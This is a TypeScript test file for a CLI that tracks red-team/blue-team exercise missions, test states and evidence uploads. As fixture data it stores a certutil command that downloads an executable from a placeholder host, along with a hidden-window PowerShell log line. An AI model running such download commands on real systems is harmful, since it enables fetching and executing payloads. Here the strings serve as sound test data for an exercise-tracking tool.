import { readFileSync } from 'node:fs';
import {
  ErrorBody,
  EvidenceUploadResult,
  MissionPage,
  MissionTestDetail,
  MissionTestSummary,
} from '@metamorph/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { remoteWorld, type RemoteWorld } from './test-remote.js';

const TestList = z.object({ items: z.array(MissionTestSummary) });

describe('metamorph remote: missions, tests, evidence', () => {
  let r: RemoteWorld;
  let m: string;
  beforeAll(async () => {
    r = await remoteWorld();
    m = r.w.missionId;
  });
  afterAll(() => r.close());

  it('lists missions as a table and as JSON, with --status and --q', async () => {
    const table = await r.cli(['missions', 'list']);
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toMatch(/^id\s+client\s+name\s+status/);
    expect(table.stdout).toContain(m);
    expect(table.stdout).toContain('Automation day');

    const json = await r.cli(['missions', 'list', '--json', '--q', 'Automation']);
    expect(json.code).toBe(0);
    const page = MissionPage.parse(JSON.parse(json.stdout));
    expect(page.items.map((i) => i.id)).toEqual([m]);

    const none = await r.cli(['missions', 'list', '--status', 'archived']);
    expect(none.stdout.trim()).toBe('no missions');
    const bad = await r.cli(['missions', 'list', '--status', 'done']);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('--status must be one of planned, active, completed, archived');
  });

  it('lists tests from the plan, filtered by --state, as a table and as JSON', async () => {
    const table = await r.cli(['tests', 'list', '--mission', m]);
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toContain('Certutil download');
    expect(table.stdout).toContain('T1059.001');
    const json = await r.cli(['tests', 'list', '--mission', m, '--state', 'pending', '--json']);
    const list = TestList.parse(JSON.parse(json.stdout));
    expect(list.items).toHaveLength(3);
    const executed = await r.cli(['tests', 'list', '--mission', m, '--state', 'executed']);
    expect(executed.stdout.trim()).toBe('no tests');
    const bad = await r.cli(['tests', 'list', '--mission', m, '--state', 'done']);
    expect(bad.code).toBe(1);
  });

  it('shows a test, and --json is the contract’s MissionTestDetail', async () => {
    const id = r.w.tests.transfer;
    const human = await r.cli(['test', 'show', '--mission', m, id]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toMatch(/name:\s+Certutil download/);
    expect(human.stdout).toMatch(/techniques:\s+T1105/);
    const json = await r.cli(['--json', 'test', 'show', '--mission', m, id]);
    expect(MissionTestDetail.parse(JSON.parse(json.stdout)).id).toBe(id);
  });

  it('updates fields from kebab-case flags, clears with --clear, refuses unknown flags and bad values', async () => {
    const id = r.w.tests.transfer;
    const ran = await r.cli(['test', 'transition', '--mission', m, id, 'executed']);
    expect(ran.code, ran.stderr).toBe(0);
    const before = (await r.w.test(id)).version;
    const res = await r.cli([
      'test',
      'update',
      '--mission',
      m,
      id,
      '--red-command',
      'certutil -urlcache -f http://x/a.exe a.exe',
      '--account-used',
      'CORP\\alice',
      '--executed-at',
      '2026-11-30T10:05:00+01:00',
      '--cleanup-done',
      'true',
      '--execution-result',
      'succeeded',
    ]);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toMatch(
      new RegExp(
        `updated test .*: red_command, executed_at, account_used, .*version ${before} → ${before + 1}`,
      ),
    );
    const after = await r.w.test(id);
    expect(after).toMatchObject({
      red_command: 'certutil -urlcache -f http://x/a.exe a.exe',
      account_used: 'CORP\\alice',
      executed_at: '2026-11-30T09:05:00.000Z',
      cleanup_done: true,
      execution_result: 'succeeded',
    });

    const cleared = await r.cli([
      '--json',
      'test',
      'update',
      '--mission',
      m,
      id,
      '--clear',
      'account-used',
    ]);
    expect(cleared.code, cleared.stderr).toBe(0);
    expect(MissionTestDetail.parse(JSON.parse(cleared.stdout)).account_used).toBeNull();

    const unknown = await r.cli(['test', 'update', '--mission', m, id, '--red-comand', 'x']);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("unknown option '--red-comand'");
    expect(unknown.stderr).toContain('(Did you mean --red-command?)');
    expect(unknown.stderr).toContain('one flag per field of the test: --red-command, --red-output');

    const badTime = await r.cli(['test', 'update', '--mission', m, id, '--executed-at', 'noon']);
    expect(badTime.code).toBe(1);
    expect(badTime.stderr).toContain('--executed-at: must be an ISO 8601 time with a zone');
    const badEnum = await r.cli(['test', 'update', '--mission', m, id, '--gap-reason', 'lazy']);
    expect(badEnum.code).toBe(1);
    expect(badEnum.stderr).toContain('--gap-reason:');
    const nothing = await r.cli(['test', 'update', '--mission', m, id]);
    expect(nothing.code).toBe(1);
    expect(nothing.stderr).toContain('nothing to update');
    expect((await r.w.test(id)).version).toBe(before + 2);
  });

  it('explains a 409 version conflict (If-Match) and exits 2 with the request id', async () => {
    const id = r.w.tests.encoded;
    const first = await r.cli(['test', 'update', '--mission', m, id, '--red-comment-md', 'one']);
    expect(first.code, first.stderr).toBe(0);
    const stale = await r.cli([
      'test',
      'update',
      '--mission',
      m,
      id,
      '--if-version',
      '1',
      '--red-comment-md',
      'two',
      '--json',
    ]);
    expect(stale.code).toBe(2);
    expect(stale.stderr).toMatch(
      /PUT \/api\/missions\/.*: 409 version_conflict: The test was changed/,
    );
    expect(stale.stderr).toMatch(/request id: \S+/);
    expect(stale.stderr).toContain('it is now at version 2');
    expect(stale.stderr).toContain(`metamorph remote test show --mission ${m} ${id}`);
    const problem = z.object({ error: ErrorBody }).parse(JSON.parse(stale.stdout));
    expect(problem.error.code).toBe('version_conflict');
    expect((await r.w.test(id)).red_comment_md).toBe('one');
  });

  it('transitions a test with a reason; an invalid move exits 2, an unknown state 1', async () => {
    const id = r.w.tests.encoded;
    const res = await r.cli([
      'test',
      'transition',
      '--mission',
      m,
      id,
      'blocked',
      '--reason',
      'host down',
    ]);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toMatch(/is now blocked \(version \d+\)/);
    expect(await r.w.test(id)).toMatchObject({ state: 'blocked', state_reason: 'host down' });
    const invalid = await r.cli(['test', 'transition', '--mission', m, id, 'reviewed_by_blue']);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toContain('409 invalid_transition');
    const back = await r.cli(['--json', 'test', 'transition', '--mission', m, id, 'pending']);
    expect(MissionTestDetail.parse(JSON.parse(back.stdout)).state).toBe('pending');
    const stale = await r.cli([
      'test',
      'transition',
      '--mission',
      m,
      id,
      'skipped',
      '--reason',
      'out of scope',
      '--if-version',
      '1',
    ]);
    expect(stale.code).toBe(2);
    expect(stale.stderr).toContain('409 version_conflict');
    expect(stale.stderr).toContain('Nothing was written.');
    expect((await r.w.test(id)).state).toBe('pending');
    const unknown = await r.cli(['test', 'transition', '--mission', m, id, 'done']);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('<state> must be one of pending, executed');
  });

  it('exits 2 with the detail when the server refuses: hidden mission (404), wrong side (403), bad token (401)', async () => {
    const outsider = await r.cli(['tests', 'list', '--mission', m], { token: r.tokens.outsider });
    expect(outsider.code).toBe(2);
    expect(outsider.stderr).toMatch(/GET \/api\/missions\/.*\/plan: 404 not_found: /);
    expect(outsider.stderr).toMatch(/request id: \S+/);
    const red = await r.cli(
      ['test', 'update', '--mission', m, r.w.tests.cradle, '--blue-comment-md', 'seen'],
      { token: r.tokens.red },
    );
    expect(red.code).toBe(2);
    expect(red.stderr).toContain('403 forbidden');
    const bad = await r.cli(['missions', 'list'], { token: 'x'.repeat(40) });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('401 unauthenticated');
  });

  it('uploads evidence streamed from disk, with caption and side; the same bytes again are the existing file', async () => {
    const id = r.w.tests.cradle;
    const log = r.file('sysmon.txt', 'EventID 1: powershell.exe -nop -w hidden\n');
    const res = await r.cli([
      'evidence',
      'upload',
      '--mission',
      m,
      id,
      log,
      '--caption',
      'Sysmon event',
      '--side',
      'red',
    ]);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toMatch(/^uploaded: sysmon\.txt → evidence \S+ \(red, text\/plain/);
    const again = await r.cli(['--json', 'evidence', 'upload', '--mission', m, id, log]);
    expect(again.code, again.stderr).toBe(0);
    const dup = EvidenceUploadResult.parse(JSON.parse(again.stdout));
    expect(dup).toMatchObject({ duplicate: true, caption: 'Sysmon event', side: 'red' });
    const evidence = (await r.w.test(id)).evidence;
    expect(evidence.map((e) => e.original_filename)).toEqual(['sysmon.txt']);

    const missing = await r.cli(['evidence', 'upload', '--mission', m, id, `${log}.nope`]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('no such file');
    const refused = await r.cli([
      'evidence',
      'upload',
      '--mission',
      m,
      id,
      r.file('tool.exe', 'MZ'),
    ]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/\/evidence: 4\d\d /);
    expect(readFileSync(log, 'utf8')).toContain('EventID');
  });
});
